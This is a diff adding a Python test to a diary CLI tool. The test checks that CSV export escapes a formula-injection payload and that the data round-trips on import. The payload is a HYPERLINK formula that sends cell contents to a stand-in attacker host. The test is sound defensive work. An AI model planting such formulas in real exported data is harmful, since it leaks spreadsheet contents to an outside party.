@@ -61,3 +61,18 @@ def test_a_broken_csv_import_is_one_line_and_exit_2(capsys, tmp_path):
     assert (code, out) == (2, "")
     assert "patients.csv line 2: time_zone 'Mars/Olympus' is not valid" in err and err.count("\n") == 1
     assert run(capsys, "diary", "today")[0] == 0
+
+
+def test_the_cli_export_is_safe_in_a_spreadsheet_and_imports_back_as_typed(capsys, tmp_path):
+    _start(capsys)
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert run(capsys, "diary", "note", payload)[0] == 0
+    folder = tmp_path / "csv"
+    assert run(capsys, "diary", "export", str(folder), "--format", "csv")[0] == 0
+    with (folder / "notes.csv").open(newline="", encoding="utf-8") as file:
+        texts = [row["text"] for row in csv.DictReader(file)]
+    assert texts == ["before the restore", "'" + payload]
+    assert run(capsys, "diary", "import", str(folder), "--yes")[0] == 0
+    again = tmp_path / "again"
+    assert run(capsys, "diary", "export", str(again), "--format", "csv")[0] == 0
+    assert (again / "notes.csv").read_bytes() == (folder / "notes.csv").read_bytes()
